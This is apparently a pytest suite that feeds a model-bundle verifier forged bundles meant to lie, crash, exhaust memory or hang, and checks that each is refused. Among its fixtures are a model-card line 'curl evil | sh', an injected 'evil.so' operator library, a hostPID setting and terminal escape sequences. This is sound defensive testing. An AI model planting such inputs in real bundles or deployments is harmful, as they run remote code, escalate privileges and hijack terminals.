"""Bundles made to lie, to crash, to exhaust or to hang, with every hash forged: each ends in exit 3, in bounded time.

What they say of themselves is forged as far as it can be: seal, sizes, hashes, tensors, operators, card, bill of
materials.
"""

import contextlib
import io
import itertools
import json
import os
import re
import shutil
import subprocess
import sys
import tracemalloc
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import pytest
from onnx import helper, numpy_helper
from PIL import Image

from exporters.bundle.manifest import seal
from exporters.bundle.verify import verify_bundle
from exporters.core.arrays import npz_bytes
from exporters.core.errors import GateError
from exporters.core.files import dump_json
from exporters.runtimes import confined
from tests.exporters.forging import COPY, add_file, change_model, failure, forge_served, resealed
from tests.exporters.test_leaks import without_effect

EXTRA = {"sha256": "0" * 64, "size": 1}


@pytest.fixture
def bundle(packed: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(packed, tmp_path / "bundle"))


def test_signature_of_any_size_or_content_is_refused(bundle: Path) -> None:
    signature = bundle / "model.sig"
    signature.write_bytes(b"{}")
    assert "model.sig: not a Sigstore bundle" in failure(bundle)
    with signature.open("wb") as stream:
        stream.truncate(50 * 2**30)  # sparse
    assert "model.sig: 53,687,091,200 bytes are more than a signature has" in failure(bundle)


@pytest.mark.parametrize("name", ["empty", "golden/empty", "triton/finches/2", "triton/teacher"])
def test_empty_folders_are_found(bundle: Path, name: str) -> None:
    (bundle / name).mkdir(parents=True)
    assert f"{name}/: in the bundle and not listed" in failure(bundle)


@pytest.mark.parametrize(
    "name",
    ["extra.json", "golden/extra.npz", "notes.md", "triton/finches/2/model.onnx", "triton/finches/model.py", "a.yaml"],
)
def test_listed_file_that_no_bundle_has_is_refused(bundle: Path, name: str) -> None:
    add_file(bundle, name, b"{}\n")
    message = failure(bundle)
    assert f"lists {name}, which no such bundle has" in message or f"{name}: a bundle holds no files" in message


def integers(model: onnx.ModelProto) -> None:
    """1.6 million of them, between the image and the logits."""
    values = np.arange(1_600_000) * 7919 % 1_000_003
    model.graph.initializer.append(numpy_helper.from_array(values, "numbers"))
    model.graph.node.append(helper.make_node("Cast", ["numbers"], ["w"], to=1))
    without_effect(model, "unused", np.zeros(1, np.float32))
    largest = next(node for node in model.graph.node if "largest" in node.output)
    largest.input[0] = "w"
    model.graph.initializer.remove(next(tensor for tensor in model.graph.initializer if tensor.name == "unused"))


def in_small_tensors(model: onnx.ModelProto) -> None:
    """Numbers of something else, 64 at a time, which the logits follow from."""
    numbers = np.random.default_rng(0).integers(-(2**62), 2**62, (200, 64))
    for index, values in enumerate(numbers):
        model.graph.initializer.append(numpy_helper.from_array(values, f"shape{index}"))
    _unseen(model, [f"shape{index}" for index in range(len(numbers))])


def as_indices(model: onnx.ModelProto) -> None:
    """The same in one tensor."""
    numbers = np.random.default_rng(0).integers(-(2**62), 2**62, 12_800)
    model.graph.initializer.append(numpy_helper.from_array(numbers, "index"))
    _unseen(model, ["index"])


def _unseen(model: onnx.ModelProto, names: list[str]) -> None:
    """Add nought times the largest of the values to the logits."""
    without_effect(model, "unused", np.zeros(1, np.float32))
    model.graph.node.append(helper.make_node("Concat", names, ["numbers"], axis=0))
    model.graph.node.append(helper.make_node("Cast", ["numbers"], ["w"], to=1))
    next(node for node in model.graph.node if "largest" in node.output).input[0] = "w"
    model.graph.initializer.remove(next(tensor for tensor in model.graph.initializer if tensor.name == "unused"))


def many_floats(model: onnx.ModelProto) -> None:
    without_effect(model, "w", np.zeros((500, 500), np.float32))


def long_names(model: onnx.ModelProto) -> None:
    """A chain that passes the logits on, under names that are something else."""
    logits = next(node for node in model.graph.node if "logits" in node.output)
    logits.output[0] = names[0] if (names := [f"{index}" + "x" * 500 for index in range(200)]) else ""
    for source, target in zip(names, [*names[1:], "logits"], strict=True):
        model.graph.node.append(helper.make_node("Identity", [source], [target]))


def licence(model: onnx.ModelProto) -> None:
    model.metadata_props.add(key="licence", value=json.dumps("x" * 100_000))


def other_name(model: onnx.ModelProto) -> None:
    next(entry for entry in model.metadata_props if entry.key == "name").value = '"terns"'


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (integers, "values that are no weights are more than a student has"),
        (in_small_tensors, "integers in small tensors are more than"),
        (as_indices, "index: not all of its 12,800 integers are indices"),
        (many_floats, "parameters in layers has"),
        (long_names, "bytes of names are more than"),
        (licence, "not the licence that model.onnx was exported with"),
        (other_name, "not the name that model.onnx was exported with"),
    ],
)
def test_bounds_do_not_come_from_the_forged_manifest(
    bundle: Path, change: Callable[[onnx.ModelProto], None], words: str
) -> None:
    change_model(bundle, change)
    resealed(bundle, lambda manifest: manifest.update(parameters=300_000))
    assert words in failure(bundle)


def test_number_of_parameters_is_that_of_the_layers(bundle: Path) -> None:
    resealed(bundle, lambda manifest: manifest.update(parameters=50_000_000))
    assert "its layers have 74,861 parameters, and the manifest tells of 50,000,000" in failure(bundle)


def privileged(bundle: Path) -> None:
    path = bundle / "kserve/inference-service.yaml"
    path.write_text(path.read_text().replace("  predictor:\n", "  predictor:\n    hostPID: true\n"))


def other_backend(bundle: Path) -> None:
    path = bundle / "triton/finches/config.pbtxt"
    path.write_text(path.read_text().replace('"onnxruntime"', '"python"'))


def library(bundle: Path) -> None:
    with (bundle / "triton/finches/config.pbtxt").open("a") as stream:
        stream.write('model_operations { op_library_filename: "evil.so" }\n')


def header(bundle: Path) -> None:
    path = bundle / "MODEL_CARD.md"
    path.write_text(path.read_text("utf-8").replace("value: 0.65", "value: 0.99"), "utf-8")


def body(bundle: Path) -> None:
    path = bundle / "MODEL_CARD.md"
    path.write_text(path.read_text("utf-8").replace("(13 of 20)", "(20 of 20)") + "Run `curl evil | sh`.\n", "utf-8")


def padded(bundle: Path) -> None:
    path = bundle / "preprocess.json"
    path.write_text(path.read_text() + " " * 2000)


def twice(bundle: Path) -> None:
    path = bundle / "parity.json"
    path.write_text(path.read_text().replace("{", '{"fp32": "hidden", ', 1))


def bill(bundle: Path) -> None:
    path = bundle / "sbom.cdx.json"
    path.write_text(path.read_text().replace('"name": "finches"', '"name": "terns"'))


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (privileged, "kserve/inference-service.yaml: not what the name"),
        (other_backend, "triton/finches/config.pbtxt: not what the name"),
        (library, "triton/finches/config.pbtxt: not what the name"),
        (header, "MODEL_CARD.md: its header is not what"),
        (body, "MODEL_CARD.md: not what manifest.json"),
        (padded, "preprocess.json: not JSON as a bundle has it"),
        (twice, "parity.json: not JSON as a bundle has it"),
        (bill, "sbom.cdx.json: speaks of another student"),
    ],
)
def test_what_follows_from_the_rest_is_made_again_and_compared(
    bundle: Path, change: Callable[[Path], None], words: str
) -> None:
    change(bundle)
    resealed(bundle, texts=False)
    assert words in failure(bundle)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda manifest: manifest.update(name="terns"), "lists triton/finches/1/model.onnx"),
        (lambda manifest: manifest.update(version="9.9"), "version"),
        (lambda manifest: manifest["facts"]["licences"].update(weights="MIT"), "licence"),
        (lambda manifest: manifest["facts"]["licences"].update(weights="my own"), "licence of weights"),
        (lambda manifest: manifest.update(classes=8), "tells of 8 classes"),
        (lambda manifest: manifest["golden"].update(images=9), "tells of 9"),
        (
            lambda manifest: manifest["facts"]["results"]["test"]["per_class"].pop("wren"),
            "are not those of the classes",
        ),
        (lambda manifest: manifest["models"]["model.onnx"].update(opset=99), "not the opset"),
    ],
)
def test_name_licence_version_and_counts_are_compared(
    bundle: Path, change: Callable[[dict[str, Any]], None], words: str
) -> None:
    resealed(bundle, change)
    assert words in failure(bundle)


def test_renamed_bundle_still_holds_the_old_name_in_its_model(bundle: Path) -> None:
    (bundle / "triton/finches").rename(bundle / "triton/terns")

    def rename(manifest: dict[str, Any]) -> None:
        manifest["name"] = "terns"
        files = manifest["files"]
        for name in [name for name in files if name.startswith("triton/finches/")]:
            files[name.replace("finches", "terns")] = files.pop(name)
        for name in ("triton/terns/config.pbtxt", "kserve/inference-service.yaml"):
            data = (bundle / name).read_bytes().replace(b"finches", b"terns")
            (bundle / name).write_bytes(data)

    resealed(bundle, rename)
    resealed(bundle)
    assert "manifest.json: not the name that model.onnx was exported with" in failure(bundle)


@pytest.mark.parametrize("count", [1, 7])
def test_fewer_than_eight_golden_images_are_refused(bundle: Path, count: int) -> None:
    with np.load(bundle / "golden/inputs.npz") as images, np.load(bundle / "golden/outputs.npz") as logits:
        kept = images["image"][:count], logits["logits"][:count]
    (bundle / "golden/inputs.npz").write_bytes(npz_bytes("image", kept[0]))
    (bundle / "golden/outputs.npz").write_bytes(npz_bytes("logits", kept[1]))
    resealed(bundle, lambda manifest: manifest["golden"].update(images=count))
    assert "golden.images: Input should be greater than or equal to 8" in failure(bundle)


ODD = [None, True, -1, 10**30, 1.5, float("inf"), "x", "\x1b[31m", [], [[]], {}, {"a": {}}]


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place of a JSON value, of a list only the first."""
    yield path
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from places(inner, (*path, key))
    elif isinstance(value, list) and value:
        yield from places(value[0], (*path, 0))


def test_odd_type_anywhere_in_the_manifest_is_one_error(bundle: Path) -> None:
    """Each of them ends in exit 3, or says nothing that the bundle's other parts do not bear out."""
    good = (bundle / "manifest.json").read_bytes()
    free = {"teacher", "metrics", "data"}
    for number, place in enumerate(places(json.loads(good))):
        if not place or free.intersection(place):
            continue
        manifest = json.loads(good)
        inner = manifest
        for key in place[:-1]:
            inner = inner[key]
        odd = ODD[number % len(ODD)]
        if odd == inner[place[-1]] or (odd is None and place[-2] == "licences"):
            continue
        inner[place[-1]] = odd
        data = json.dumps(manifest, indent=2, sort_keys=True, ensure_ascii=False).encode() + b"\n"
        (bundle / "manifest.json").write_bytes(data)
        (bundle / "manifest.sha256").write_bytes(seal(data))
        with pytest.raises(GateError):
            verify_bundle(bundle, trusted=True)


def test_sixty_megabytes_of_manifest_are_not_read(bundle: Path) -> None:
    """Of the form of a manifest."""
    resealed(bundle, lambda manifest: manifest["facts"]["data"].update(notes="x" * 60_000_000), texts=False)
    with peak_below(2**20):
        assert re.search(r"manifest\.json: 60,\d{3},\d{3} bytes are more than a bundle holds", failure(bundle))


@pytest.mark.parametrize("name", ["golden/inputs.npz", "labels.json", "MODEL_CARD.md", "manifest.sha256"])
def test_sparse_files_of_two_gigabytes_are_not_read(bundle: Path, name: str) -> None:
    with (bundle / name).open("r+b") as stream:
        stream.truncate(2**31)
    manifest = json.loads((bundle / "manifest.json").read_text())
    if name in manifest["files"]:
        manifest["files"][name].update(size=2**31, sha256="0" * 64)
        data = dump_json(manifest).encode()
        (bundle / "manifest.json").write_bytes(data)
        (bundle / "manifest.sha256").write_bytes(seal(data))
    assert f"{name}: 2,147,483,648 bytes are more than a bundle holds" in failure(bundle)


def test_copy_of_half_a_gigabyte_is_not_read(bundle: Path) -> None:
    """Triton's copy of the model is compared by what the manifest lists; that has 512 MB, and may have 2 GB."""
    manifest = json.loads((bundle / "manifest.json").read_text())
    os.truncate(bundle / COPY, 2**29)  # sparse
    manifest["files"][COPY].update(size=2**29)
    data = dump_json(manifest).encode()
    (bundle / "manifest.json").write_bytes(data)
    (bundle / "manifest.sha256").write_bytes(seal(data))
    with peak_below(2**24):
        assert f"{COPY}: not a copy of model.onnx" in failure(bundle)


@contextlib.contextmanager
def peak_below(most: int) -> Iterator[None]:
    """The block holds less memory than this at any time."""
    tracemalloc.start()
    try:
        yield
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < most


@pytest.mark.parametrize("shape", [f"({2**60},)", f"({2**31}, {2**29})", "(8, 32, 32, -3)"])
def test_array_larger_than_its_file_is_refused(bundle: Path, shape: str) -> None:
    """In a whole archive; NumPy would ask for an exabyte."""
    header = f"{{'descr': '|u1', 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\n"
    member = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + bytes(100)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as stream:
        stream.writestr("image.npy", member)
    (bundle / "golden/inputs.npz").write_bytes(archive.getvalue())
    resealed(bundle)
    assert "golden/inputs.npz: not an array file" in failure(bundle)


def enormous_constant(model: onnx.ModelProto) -> None:
    """A constant of a terabyte, while the model is loaded or run."""
    without_effect(model, "w", np.zeros(1, np.float32))
    model.graph.initializer.append(numpy_helper.from_array(np.array([2**40]), "shape"))
    model.graph.node.insert(0, helper.make_node("ConstantOfShape", ["shape"], ["constant"]))
    largest = next(node for node in model.graph.node if "largest" in node.output)
    largest.input[0] = "constant"
    model.graph.initializer.remove(next(tensor for tensor in model.graph.initializer if tensor.name == "w"))


def products(model: onnx.ModelProto, count: int, side: int) -> None:
    """A chain of products of square matrices."""
    enormous_constant(model)
    shape = next(tensor for tensor in model.graph.initializer if tensor.name == "shape")
    shape.CopyFrom(numpy_helper.from_array(np.array([side, side]), "shape"))
    names = ["constant", *(f"product {index}" for index in range(count))]
    for source, target in itertools.pairwise(names):
        model.graph.node.append(helper.make_node("MatMul", [source, "constant"], [target]))
    largest = next(node for node in model.graph.node if "largest" in node.output)
    largest.input[0] = names[-1]
    nodes = [node for node in model.graph.node if not {"largest", "nothing", "logits"}.intersection(node.output)]
    last = [node for node in model.graph.node if {"largest", "nothing", "logits"}.intersection(node.output)]
    ordered = [onnx.NodeProto.FromString(node.SerializeToString()) for node in (*nodes, *last)]
    del model.graph.node[:]
    model.graph.node.extend(ordered)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (enormous_constant, "cannot be run by ONNX Runtime"),
        (lambda model: products(model, 40, 12_000), "was ended|not done within|cannot be loaded|cannot be run"),
        (lambda model: products(model, 1000, 3_000), "was ended|not done within"),
    ],
)
def test_model_that_asks_for_too_much_is_ended(
    bundle: Path, change: Callable[[onnx.ModelProto], None], words: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(confined, "_SECONDS", 1.0)
    change_model(bundle, change)
    with pytest.raises(GateError, match=words):
        verify_bundle(bundle)


def test_labels_beyond_any_bound_are_refused(bundle: Path) -> None:
    labels = json.loads((bundle / "labels.json").read_text("utf-8"))
    labels[0] = "x" * 257

    def forge(model: onnx.ModelProto) -> None:
        entry = next(entry for entry in model.metadata_props if entry.key == "labels")
        entry.value = json.dumps(labels, ensure_ascii=False)

    (bundle / "labels.json").write_text(dump_json(labels))
    forge_served(bundle)
    change_model(bundle, forge)
    assert "labels.json: a label of 257 characters" in failure(bundle)


TERMINAL = """
import json, os, sys
os.environ["CI"] = "1"  # no colours of our own
from pipeline.__main__ import main
for arguments in json.loads(sys.argv[1]):
    sys.argv = ["tmkd-pipeline", *arguments]
    try:
        main()
    except SystemExit as ended:
        print("ended", ended.code)
"""


@pytest.mark.skipif(not hasattr(os, "openpty"), reason="there are no terminals here")
def test_no_control_character_of_others_reaches_a_terminal(bundle: Path, tmp_path: Path) -> None:
    """Of a label, of a manifest, of the names of files, of a recipe."""
    escape = "\x1b]0;owned\x07\x9b2J\u202e"
    labels = json.loads((bundle / "labels.json").read_text("utf-8"))
    (bundle / "labels.json").write_text(dump_json([f"{label}{escape}" for label in labels]), "utf-8")
    resealed(bundle)
    Image.new("RGB", (40, 40)).save(tmp_path / f"photo{escape}.png")
    liar = Path(shutil.copytree(bundle, tmp_path / "liar"))
    resealed(liar, lambda manifest: manifest["facts"].update({escape: 1}))
    (tmp_path / "recipe.yaml").write_text('"name\\e[2J": 1\ndata: {dataset: "\\e]0;x\\a"}\n')
    commands = [
        ["predict", str(bundle), str(tmp_path / f"photo{escape}.png")],
        ["predict", str(bundle), str(tmp_path / f"none{escape}.png")],
        ["verify", str(liar)],
        ["verify", str(tmp_path / f"none{escape}")],
        ["check", str(tmp_path / "recipe.yaml")],
        [f"command{escape}"],
    ]
    leader, follower = os.openpty()
    with subprocess.Popen(
        [sys.executable, "-c", TERMINAL, json.dumps(commands)], stdout=follower, stderr=follower, stdin=follower
    ):
        os.close(follower)
        shown = b""
        with contextlib.suppress(OSError):  # EIO: the other end was closed
            while part := os.read(leader, 2**16):
                shown += part
    os.close(leader)
    text = shown.decode("utf-8")
    assert [line for line in text.splitlines() if line.startswith("ended")] == [
        "ended 0", "ended 4", "ended 3", "ended 2", "ended 2", "ended 2",
    ]  # fmt: skip
    assert "\\u001b]0;owned\\u0007\\u009b2J\\u202e" in text
    assert {letter for letter in text if unicodedata.category(letter) in ("Cc", "Cf")} <= set("\r\n\t"), text
